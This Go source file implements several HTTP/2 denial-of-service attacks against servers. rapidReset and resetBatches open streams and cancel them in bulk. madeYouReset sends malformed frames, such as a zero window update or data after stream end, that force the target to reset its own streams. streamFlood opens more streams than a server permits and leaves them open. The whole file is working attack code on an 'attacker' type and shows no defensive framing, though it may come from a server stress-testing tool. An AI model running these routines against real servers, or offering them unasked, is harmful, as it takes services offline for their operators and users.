package main

const (
	batchStreams = 100 // of one write, and below what every server allows at once
	smallPath    = "/128"
	largePath    = "/16777216"
	heldPath     = "/1048576"
)

// rapidReset opens streams and resets them in the same write.
func rapidReset(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	block := appendRequest(nil, indexGet, smallPath)
	stream := uint32(1)
	var b []byte
	return a.repeat(func() []byte {
		b = b[:0]
		for range batchStreams {
			b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, stream, block)
			b = appendNumber(b, frameReset, stream, codeCancel)
			stream += 2
		}
		return b
	})
}

// resetBatches lets requests begin before it resets them.
func resetBatches(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	block := appendRequest(nil, indexGet, largePath)
	for stream := uint32(1); ; stream += 2 * batchStreams {
		var heads, resets []byte
		for i := range uint32(batchStreams) {
			heads = appendFrame(heads, frameHeaders, flagEndHeaders|flagEndStream, stream+2*i, block)
			resets = appendNumber(resets, frameReset, stream+2*i, codeCancel)
		}
		if err := a.send(heads); err != nil {
			return err
		}
		if err := pause(a.ctx, reopenPause); err != nil {
			return err
		}
		if err := a.send(resets); err != nil {
			return err
		}
	}
}

// provocations are frames after which a server has to reset the stream, each by another rule of RFC 9113.
var provocations = []struct {
	name    string
	endless bool // the request must be open
	provoke func(dst []byte, stream uint32) []byte
}{
	{name: "a window update of 0", provoke: func(dst []byte, s uint32) []byte {
		return appendNumber(dst, frameWindowUpdate, s, 0)
	}},
	{name: "a window beyond 2^31-1", provoke: func(dst []byte, s uint32) []byte {
		return appendNumber(dst, frameWindowUpdate, s, 1<<31-1)
	}},
	{name: "data after the end", provoke: func(dst []byte, s uint32) []byte {
		return appendFrame(dst, frameData, 0, s, []byte("x"))
	}},
	{name: "a PRIORITY of 4 bytes", provoke: func(dst []byte, s uint32) []byte {
		return appendFrame(dst, framePriority, 0, s, make([]byte, 4))
	}},
	{name: "more data than content-length", endless: true, provoke: func(dst []byte, s uint32) []byte {
		return appendFrame(dst, frameData, flagEndStream, s, []byte("far more than one byte"))
	}},
}

// madeYouReset makes the target reset its streams. Each attacker has its own way.
func madeYouReset(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	how := provocations[a.index%len(provocations)]
	flags, block := byte(flagEndHeaders|flagEndStream), appendRequest(nil, indexGet, smallPath)
	if how.endless {
		flags, block = flagEndHeaders, appendLiteral(appendRequest(nil, indexPost, smallPath), "content-length", "1")
	}
	stream := uint32(1)
	var b []byte
	return a.repeat(func() []byte {
		b = b[:0]
		for range batchStreams {
			b = how.provoke(appendFrame(b, frameHeaders, flags, stream, block), stream)
			stream += 2
		}
		return b
	})
}

// streamFlood asks for more streams than allowed, and leaves all of them open.
func streamFlood(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	block := appendRequest(nil, indexPost, smallPath)
	stream := uint32(1)
	var b []byte
	return a.repeat(func() []byte {
		b = b[:0]
		for range batchStreams {
			b = appendFrame(b, frameHeaders, flagEndHeaders, stream, block)
			stream += 2
		}
		return b
	})
}
